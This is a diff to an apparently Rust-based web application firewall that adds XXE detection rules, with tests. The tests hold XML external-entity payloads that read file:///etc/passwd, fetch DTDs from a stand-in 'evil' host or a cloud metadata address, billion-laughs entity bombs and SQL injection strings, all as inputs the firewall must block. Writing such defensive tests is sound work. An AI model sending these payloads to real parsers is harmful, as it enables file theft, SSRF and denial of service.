@@ -351,6 +351,8 @@ pub const CODE_RULES: &[(&str, Category)] = &[
     ("rce-globbed-path", Category::Rce),
     ("sqli-constant-condition", Category::Sqli),
     ("ssrf-internal-address", Category::Ssrf),
+    ("xxe-external-entity", Category::Generic),
+    ("xxe-entity-expansion", Category::Generic),
     ("php-known-function", Category::Php),
     ("rfi-known-parameter", Category::Rfi),
     ("scanner-user-agent", Category::Scanner),
@@ -2090,5 +2092,116 @@ mod tests {
             ),
             None
         );
+    }
+
+    /// A DOCTYPE that makes the XML parser fetch a file or URL (external
+    /// DTD or entity, parameter entity) or expand entities into entities
+    /// (billion laughs) is refused, in every XML type and spelling.
+    #[test]
+    fn xml_external_entities_and_entity_bombs_are_refused() {
+        let engine = Engine::new();
+        let external = [
+            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+            "<!doctype a [<!entity x system \"file:///etc/passwd\">]><a>&x;</a>",
+            "<!DocType a[<!EnTiTy x SyStEm 'file:///etc/passwd'>]><a>&x;</a>",
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE\na\n[\n  <!ENTITY\tx\tSYSTEM\n\"file:///etc/passwd\" >\n]>\n<a>&x;</a>",
+            "<!DOCTYPE a [<!ENTITY x PUBLIC \"-//A//B\" \"http://evil/x\">]><a>&x;</a>",
+            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><a/>",
+            "<!DOCTYPE a [<!ENTITY %p SYSTEM \"http://evil/x.dtd\">%p;]><a/>",
+            "<!DOCTYPE a [<!-- > --><!ENTITY x SYSTEM \"http://169.254.169.254/\">]><a>&x;</a>",
+            "<!DOCTYPE a SYSTEM \"http://evil/x.dtd\"><a/>",
+            "<!DOCTYPE a PUBLIC \"-//W3C//DTD x//EN\" \"http://evil/x.dtd\"><a/>",
+            "\u{feff}<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
+            "<a/><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">",
+        ];
+        let bombs = [
+            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">\
+             <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>",
+            "<!doctype l [<!entity a 'aaaa'><!entity b '&a;&a;'>]><l>&b;</l>",
+        ];
+        // What follows a DOCTYPE is still read, however its subset is
+        // written; one left open is read to the end.
+        for body in [
+            "<!DOCTYPE a [<!-- it's -->]><a>1' union select password from users--</a>",
+            "<!DOCTYPE a [<!ELEMENT a ANY>]><a>1' union select password from users--</a>",
+            "<!DOCTYPE a [<!-- ' --><a>1' union select password from users--</a>",
+        ] {
+            let found = refused_by(
+                &engine,
+                &Method::POST,
+                "/soap",
+                Some("application/xml"),
+                body.as_bytes(),
+            );
+            assert!(
+                found.is_some_and(|r| r.starts_with("sqli") || r.starts_with("libinjection")),
+                "{body}: {found:?}"
+            );
+        }
+        for ct in [
+            "application/xml",
+            "text/xml",
+            "application/soap+xml",
+            "application/xml; charset=utf-8",
+        ] {
+            for body in external {
+                let found = refused_by(&engine, &Method::POST, "/soap", Some(ct), body.as_bytes());
+                assert_eq!(found, Some("xxe-external-entity"), "{ct}: {body}");
+            }
+            for body in bombs {
+                let found = refused_by(&engine, &Method::POST, "/soap", Some(ct), body.as_bytes());
+                assert_eq!(found, Some("xxe-entity-expansion"), "{ct}: {body}");
+            }
+        }
+    }
+
+    /// XML without a DOCTYPE, a DOCTYPE naming only the root, the W3C's
+    /// own public DTDs and an internal entity of plain text all pass.
+    #[test]
+    fn xml_without_external_entities_passes() {
+        let engine = Engine::new();
+        for (ct, body) in [
+            (
+                "application/soap+xml",
+                "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\">\
+                 <soap:Body><m:GetPrice xmlns:m=\"https://example.org/prices\"><m:Item>Apples</m:Item></m:GetPrice>\
+                 </soap:Body></soap:Envelope>",
+            ),
+            (
+                "application/rss+xml",
+                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>News</title>\
+                 <link>https://example.org/</link><description>System and public news</description>\
+                 <item><title>Entity &amp; more</title><link>https://example.org/1</link></item></channel></rss>",
+            ),
+            (
+                "image/svg+xml",
+                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>",
+            ),
+            (
+                "application/xhtml+xml",
+                "<!DOCTYPE html><html><body><p>system public</p></body></html>",
+            ),
+            ("application/xml", "<!doctype note><note>hello</note>"),
+            (
+                "application/xhtml+xml",
+                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \
+                 \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><body><p>hi</p></body></html>",
+            ),
+            (
+                "application/xml",
+                "<!DOCTYPE a [<!ENTITY company \"ACME &amp; Co &#169;\"><!ELEMENT a (#PCDATA)>]><a>&company;</a>",
+            ),
+            // Names that are keywords elsewhere, and a comment with a quote.
+            (
+                "application/xml",
+                "<!DOCTYPE system [<!ENTITY public \"p\"><!-- it's > -->]><system>&public;</system>",
+            ),
+        ] {
+            assert_eq!(
+                refused_by(&engine, &Method::POST, "/feed", Some(ct), body.as_bytes()),
+                None,
+                "{body}"
+            );
+        }
     }
 }
